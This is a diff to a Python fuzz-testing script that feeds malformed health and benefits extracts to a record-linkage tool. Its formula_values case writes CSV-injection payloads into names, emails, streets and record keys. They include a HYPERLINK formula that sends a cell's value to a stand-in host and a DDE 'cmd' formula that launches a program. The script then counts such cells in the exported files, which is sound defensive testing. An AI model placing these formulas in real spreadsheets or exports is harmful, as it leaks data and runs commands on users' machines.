@@ -5,13 +5,17 @@ one kind of field in about half of them (impossible and odd dates, hostile names
 phones and ZIPs, HMIS codes, CalSAWS key parts, empty columns, a Windows-1252 file, FHIR
 Patients in shapes other EHRs write and lines that are no resource, a deeply nested line,
 an injection-shaped header, conflicting duplicate keys, blank keys, one name shared by every
-record), or writes the same records as other export tools do (pipe and tab delimiters, a
-header in capitals, CRLF and LF lines joined, NULL for every empty value, a typed Parquet
-file), runs `linkage run --json` on it and reports per case: the exit code, whether a
-traceback appeared, per source rows read, landed and rejected with the reject reasons
-and value warnings (counts only, never values), the records given an EID, and the
-crosswalk's pair F1 against the sample's truth. A clean result is exit 0 with every row
-landed or rejected with a reason, or exit 2 with a one-line error; a traceback is a defect.
+record, names in other scripts, control characters and emoji, spreadsheet formulas,
+100,000-character values, placeholder SSNs), delivers a file another way (a byte order
+mark, line breaks inside quoted fields, a header alone, zero bytes, a FHIR Bundle), or
+writes the same records as other export tools do (pipe and tab delimiters, a header in
+capitals, CRLF and LF lines joined, NULL for every empty value, a typed Parquet file), runs
+`linkage run --json` on it and reports per case: the exit code, whether a traceback
+appeared, per source rows read, landed and rejected with the reject reasons and value
+warnings (counts only, never values), the records given an EID, the crosswalk's pair F1
+against the sample's truth, and the cells of the crosswalk export and the review file (CSV)
+that a spreadsheet would run as a formula. A clean result is exit 0 with every row landed
+or rejected with a reason, or exit 2 with a one-line error; a traceback is a defect.
 
     .venv/bin/python benchmarks/fuzz_extracts.py [--work build/fuzz] [--rows 150] [CASE ...]
 """
@@ -254,6 +258,183 @@ def huge_dup_names(folder: Path) -> None:
     write_csv(folder / "ehr.csv", header, rows)
 
 
+# Letters of the Latin alphabet as Cyrillic letters (one each, so a name keeps its identity).
+CYRILLIC = dict(zip("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz",
+                    "АБЦДЕФГХИЙКЛМНОПЯРСТУВШЖЫЗабцдефгхийклмнопярстувшжыз"))
+NAME_COLUMNS = (("calsaws.csv", ("first_name", "middle_name", "last_name")),
+                ("ehr.csv", ("first_name", "middle_name", "last_name")),
+                ("hmis/Client.csv", ("FirstName", "MiddleName", "LastName")))
+
+
+def map_columns(path: Path, columns, change) -> None:
+    header, rows = read_csv(path)
+    for row in rows:
+        for column in columns:
+            row[header.index(column)] = change(row[header.index(column)])
+    write_csv(path, header, rows)
+
+
+@case
+def names_cyrillic(folder: Path) -> None:
+    """Every name in every source written in Cyrillic letters, the same name the same way."""
+    def cyrillic(text: str) -> str:
+        return "".join(CYRILLIC.get(char, char) for char in text)
+    for file, columns in NAME_COLUMNS:
+        map_columns(folder / file, columns, cyrillic)
+
+    def fhir(resource):
+        for name in resource.get("name", []):
+            name["family"] = cyrillic(name.get("family", ""))
+            name["given"] = [cyrillic(given) for given in name.get("given", [])]
+        return resource
+    lines = [json.dumps(fhir(json.loads(line)))
+             for line in (folder / "fhir.ndjson").read_text(encoding="utf-8").splitlines()]
+    (folder / "fhir.ndjson").write_text("\n".join(lines) + "\n", encoding="utf-8")
+
+
+# Latin letters as a clerk writes a name in Cyrillic by its sound (CAROL -> КАРОЛ).
+BY_SOUND = dict(zip("ABCDEFGHIJKLMNOPQRSTUVWXYZ",
+                    ["А", "Б", "К", "Д", "Е", "Ф", "Г", "Х", "И", "ДЖ", "К", "Л", "М", "Н", "О",
+                     "П", "К", "Р", "С", "Т", "У", "В", "В", "КС", "Й", "З"]))
+
+
+@case
+def names_two_scripts(folder: Path) -> None:
+    """The CalSAWS extract's names written in Cyrillic by their sound, the other sources'
+    in Latin letters: one person in two scripts."""
+    map_columns(folder / "calsaws.csv", NAME_COLUMNS[0][1],
+                lambda text: "".join(BY_SOUND.get(char, char) for char in text.upper()))
+
+
+@case
+def names_other_scripts(folder: Path) -> None:
+    """Half the names in one of five non-Latin scripts, or Vietnamese with full diacritics."""
+    names = ["Иван", "Ёлкина", "Ελένη", "Παπαδόπουλος", "李小龍", "王", "محمد", "عبد الله",
+             "Nguyễn Thị Minh Khai", "Trần", "がくせい", "김민준"]
+    for file, columns in NAME_COLUMNS:
+        for column in columns:
+            mutate_col(folder / file, column, names)
+
+
+FHIR_LENIENT = [
+    lambda o: {**o, "name": [{**n, "given": " ".join(n.get("given", []))} for n in o["name"]]},
+    lambda o: {**o, "name": o["name"][0]},
+    lambda o: {**o, "telecom": o["telecom"][0]} if o.get("telecom") else o,
+    lambda o: {**o, "address": {**o["address"][0], "line": " ".join(o["address"][0]["line"])}}
+    if o.get("address") else o,
+    lambda o: {**o, "birthDate": o["birthDate"] + "T00:00:00Z"} if o.get("birthDate") else o,
+    lambda o: {**o, "gender": str(o.get("gender", "")).upper()},
+    lambda o: {**o, "identifier": [{"value": i["value"], "type": {"text": i["type"]["coding"][0]["code"]}}
+                                   for i in o.get("identifier", [])]},
+]
+
+
+@case
+def fhir_lenient(folder: Path) -> None:
+    """Half the Patients in shapes real EHR exports write: a `given` string, a `name`, an
+    `address` or a `telecom` as one object, an address line as a string, a birth date with a
+    time, gender in capitals, identifiers told by their type's text alone."""
+    mutate_fhir(folder / "fhir.ndjson", lambda resource: rnd.choice(FHIR_LENIENT)(resource))
+
+
+@case
+def fhir_bundle(folder: Path) -> None:
+    """The Patients as one searchset Bundle, pretty-printed, where NDJSON is expected."""
+    path = folder / "fhir.ndjson"
+    entries = [{"resource": json.loads(line)} for line in path.read_text(encoding="utf-8").splitlines()]
+    path.write_text(json.dumps({"resourceType": "Bundle", "type": "searchset", "entry": entries},
+                               indent=2), encoding="utf-8")
+
+
+@case
+def byte_order_mark(folder: Path) -> None:
+    for file in ("calsaws.csv", "ehr.csv", "hmis/Client.csv", "fhir.ndjson"):
+        path = folder / file
+        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
+
+
+@case
+def embedded_newlines(folder: Path) -> None:
+    """Quoted fields holding line breaks (an address typed on two lines, a note)."""
+    mutate_col(folder / "ehr.csv", "address_line1", ["1 Main St\nApt 4", "PO Box 5\r\nSuite 2"], 0.3)
+    mutate_col(folder / "calsaws.csv", "last_name", ["GARCIA\nLOPEZ"], 0.1)
+
+
+@case
+def huge_fields(folder: Path) -> None:
+    """A 100,000-character value in a name, a street and a key."""
+    mutate_col(folder / "ehr.csv", "last_name", ["A" * 100_000], 0.1)
+    mutate_col(folder / "calsaws.csv", "res_street", ["1 MAIN ST " * 10_000], 0.1)
+    mutate_col(folder / "ehr.csv", "mrn", ["9" * 100_000], 0.02)
+
+
+@case
+def control_chars(folder: Path) -> None:
+    """NUL bytes, control and invisible characters inside names, and NULs in SSNs."""
+    header, rows = read_csv(folder / "ehr.csv")
+    for number, row in enumerate(rows[::2]):
+        for column in ("first_name", "last_name"):
+            name = row[header.index(column)]
+            half = len(name) // 2
+            row[header.index(column)] = ("\x00" + name[:half] + ["\x00", "\u200b", "\x07", "\u00ad"][
+                number % 4] + name[half:] + "\x1b\x00\x00")
+        row[header.index("ssn")] = row[header.index("ssn")].replace("-", "\x00")
+    write_csv(folder / "ehr.csv", header, rows)
+
+
+@case
+def header_only(folder: Path) -> None:
+    header, _ = read_csv(folder / "ehr.csv")
+    write_csv(folder / "ehr.csv", header, [])
+
+
+@case
+def zero_byte(folder: Path) -> None:
+    (folder / "ehr.csv").write_bytes(b"")
+
+
+@case
+def formula_values(folder: Path) -> None:
+    """Spreadsheet formulas as names, emails and streets, and as a fifth of the MRNs (each
+    still unique, so the records land with them as their keys): CSV injection."""
+    formulas = ['=HYPERLINK("http://x.example/?a="&A1,"click")', "=cmd|' /C calc'!A0",
+                "+SUM(1,2)", "-2+3", "@SUM(1)"]
+    for column in ("first_name", "last_name", "email", "address_line1"):
+        mutate_col(folder / "ehr.csv", column, formulas, 0.2)
+    header, rows = read_csv(folder / "ehr.csv")
+    mrn = header.index("mrn")
+    for number, row in enumerate(rows):
+        if number % 5 == 0:
+            row[mrn] = ['=HYPERLINK("http://x.example/{}","open")', "+{}", "-{}", "@{}"][
+                number // 5 % 4].format(row[mrn])
+    write_csv(folder / "ehr.csv", header, rows)
+
+
+@case
+def emoji_names(folder: Path) -> None:
+    """Emoji beside half the names (a nickname field typed on a phone)."""
+    emoji = ["😀", " 🙂", " 👨‍👩‍👧", "🌮 "]
+    header, rows = read_csv(folder / "ehr.csv")
+    for number, row in enumerate(rows[::2]):
+        for column in ("first_name", "last_name"):
+            row[header.index(column)] += emoji[number % len(emoji)]
+    write_csv(folder / "ehr.csv", header, rows)
+
+
+@case
+def zero_dates(folder: Path) -> None:
+    for file, column in (("calsaws.csv", "dob"), ("ehr.csv", "dob"), ("hmis/Client.csv", "DOB")):
+        mutate_col(folder / file, column, ["0000-00-00", "00/00/0000", "0000-00-00 00:00:00"], 0.3)
+
+
+@case
+def one_placeholder_ssn(folder: Path) -> None:
+    """Every record's SSN one of the placeholders intake forms use: as a match key it would
+    join strangers."""
+    for file, column in (("calsaws.csv", "ssn"), ("ehr.csv", "ssn"), ("hmis/Client.csv", "SSN")):
+        mutate_col(folder / file, column, ["000-00-0000", "123-45-6789", "999-99-9999"], 1.0)
+
+
 # -- the same records as other export tools write them ------------------------------------------
 @case
 def as_delivered(folder: Path) -> None:
@@ -357,7 +538,25 @@ def run(name: str, work: Path) -> dict:
             result["f1"] = round(json.loads(evaluated.stdout)["f1"], 4)
         except (json.JSONDecodeError, KeyError):
             result["f1"] = None
+        result["formula_cells"] = formula_cells(folder)
     return result
+
+
+def formula_cells(folder: Path) -> int | None:
+    """Cells of the crosswalk export and the review file (CSV, for people to open) that a
+    spreadsheet would run as a formula; None if either could not be written."""
+    count = 0
+    for command, out in ((["crosswalk", "export"], "crosswalk.csv"),
+                         (["review", "export"], "review.csv")):
+        done = subprocess.run([linkage_command(), "--progress", "none", *command, "-c",
+                               str(folder / "config.yaml"), "--out", str(folder / out)],
+                              capture_output=True, text=True, timeout=900)
+        if done.returncode != 0:
+            return None
+        with open(folder / out, newline="", encoding="utf-8") as handle:
+            count += sum(cell[:1] in ("=", "+", "-", "@", "\t", "\r")
+                         for row in csv.reader(handle) for cell in row)
+    return count
 
 
 def main() -> None:
